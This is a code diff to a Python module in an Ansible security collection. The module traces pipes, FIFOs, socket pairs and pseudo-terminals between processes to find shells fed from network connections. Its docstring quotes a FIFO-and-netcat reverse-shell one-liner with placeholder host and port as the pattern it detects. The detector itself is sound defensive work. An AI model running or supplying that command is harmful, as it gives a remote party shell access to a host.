@@ -1,21 +1,24 @@
 # Copyright: bulwark.servers contributors
 # GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Pipes and named FIFOs between processes (pipe(7), fifo(7)): who feeds one, and to whom its output goes.
+"""What processes talk to each other by: pipes, FIFOs, pairs of Unix sockets, pseudo-terminals (pipe(7), pty(7)).
 
-"mkfifo f; sh -i <f 2>&1 | nc HOST PORT >f" is a shell on a connection, with any number of programs in between.
+Who feeds one, and to whom its output goes: "mkfifo f; sh -i <f 2>&1 | nc HOST PORT >f" is a shell on a connection, with
+any number of programs in between.
 """
 
 from __future__ import annotations
 
 import typing as t
 
+from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity import socket_pairs
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.surroundings import Surroundings
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.model import OpenFile, Process, Socket
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.view import Host
 
 _KEY = "streams"
-_PIPE = b"pipe:["
+_PIPE, _SOCKET = b"pipe:[", b"socket:["
+_FOLLOWED = (_PIPE, _SOCKET, b"/")
 # Of a shell's neighbours; a whole host's pipes are not followed.
 _MOST_PROCESSES = 200
 # Of what ``Surroundings.access`` says.
@@ -35,21 +38,27 @@ class End(t.NamedTuple):
 
 
 class Streams:
-    """Finds what is connected by streams. Pipes are told apart by their names, FIFOs by device and inode."""
+    """Finds what is connected by streams.
+
+    Each descriptor is an end, and leads to another: pipes and FIFOs to all that have them open, a socket to its peer, a
+    terminal to who has its master, and that to all that have the terminal.
+    """
 
     def __init__(self, host: Host, around: Surroundings) -> None:
         self._host = host
         self._around = around
-        self._pipes: dict[bytes, list[tuple[Process, OpenFile]]] = {}
-        self._fifos: dict[bytes, list[tuple[Process, OpenFile]]] | None = None
+        self._unnamed: dict[bytes, list[tuple[Process, OpenFile]]] = {}
+        self._named: dict[bytes, list[tuple[Process, OpenFile]]] | None = None
+        self._peers: dict[int, int] | None = None
         for process in host.processes.values():
             for file in process.files:
-                if file.target.startswith(_PIPE):
-                    self._pipes.setdefault(file.target, []).append((process, file))
+                if file.target.startswith((_PIPE, _SOCKET)):
+                    self._unnamed.setdefault(file.target, []).append((process, file))
 
     def is_stream(self, process: Process, file: OpenFile) -> bool:
         """Say whether a descriptor is of a pipe, or of a FIFO that has, or had, a name."""
-        return self._stream(process, file) is not None
+        opposite = self._opposite(process, file)
+        return opposite is not None and opposite.startswith((_PIPE, b"fifo:"))
 
     def feeding(self, process: Process, file: OpenFile, stops: t.Callable[[Process], bool]) -> list[End]:
         """Return who has a connection and feeds a stream that a process reads.
@@ -71,11 +80,11 @@ class Streams:
         waiting = [(process, file, False)]
         while waiting and len(seen) < _MOST_PROCESSES and self._host.seconds_left() > 0:
             one, through, named = waiting.pop(0)
-            stream = self._stream(one, through)
-            if stream is None:
+            opposite = self._opposite(one, through)
+            if opposite is None:
                 continue
-            named = named or not stream.startswith(_PIPE)
-            for other, end in self._ends(stream):
+            named = named or opposite.startswith(b"fifo:")
+            for other, end in self._ends(opposite):
                 if other.pid in seen or not self._around.access(other.pid, end.descriptor)[near]:
                     continue
                 seen.add(other.pid)
@@ -87,32 +96,34 @@ class Streams:
                 waiting.extend(
                     (other, behind, named)
                     for behind in other.files
-                    if behind.target.startswith((_PIPE, b"/"))
-                    and self._around.access(other.pid, behind.descriptor)[far]
+                    if behind.target.startswith(_FOLLOWED) and self._around.access(other.pid, behind.descriptor)[far]
                 )
         return found
 
-    def _stream(self, process: Process, file: OpenFile) -> bytes | None:
-        """Return what tells a stream from others; None where a descriptor is of none."""
+    def _opposite(self, process: Process, file: OpenFile) -> bytes | None:
+        """Return what tells the end that a descriptor leads to from others; None where it is of no stream."""
         if file.target.startswith(_PIPE):
             return file.target
-        if not file.target.startswith(b"/"):
-            return None
-        fifo = self._around.fifo(process, file)
-        return b"fifo:%d:%d" % fifo if fifo is not None else None
+        if file.target.startswith(_SOCKET):
+            if self._peers is None:
+                self._peers = socket_pairs.peers()
+            peer = self._peers.get(int(file.target[len(_SOCKET) : -1]))
+            return b"%s%d]" % (_SOCKET, peer) if peer else None
+        ends = self._around.stream(process, file) if file.target.startswith(b"/") else None
+        return ends[1] if ends is not None else None
 
-    def _ends(self, stream: bytes) -> list[tuple[Process, OpenFile]]:
-        if stream.startswith(_PIPE):
-            return self._pipes.get(stream, [])
-        if self._fifos is None:
+    def _ends(self, end: bytes) -> list[tuple[Process, OpenFile]]:
+        if end.startswith((_PIPE, _SOCKET)):
+            return self._unnamed.get(end, [])
+        if self._named is None:
             # A FIFO has one name for each of its links, and in each mount namespace: all that is open is asked.
-            self._fifos = {}
+            self._named = {}
             for process in self._host.processes.values():
                 for file in process.files:
-                    its = self._stream(process, file) if file.target.startswith(b"/") else None
-                    if its is not None:
-                        self._fifos.setdefault(its, []).append((process, file))
-        return self._fifos.get(stream, [])
+                    ends = self._around.stream(process, file) if file.target.startswith(b"/") else None
+                    if ends is not None:
+                        self._named.setdefault(ends[0], []).append((process, file))
+        return self._named.get(end, [])
 
 
 def is_connection(socket: Socket) -> bool:
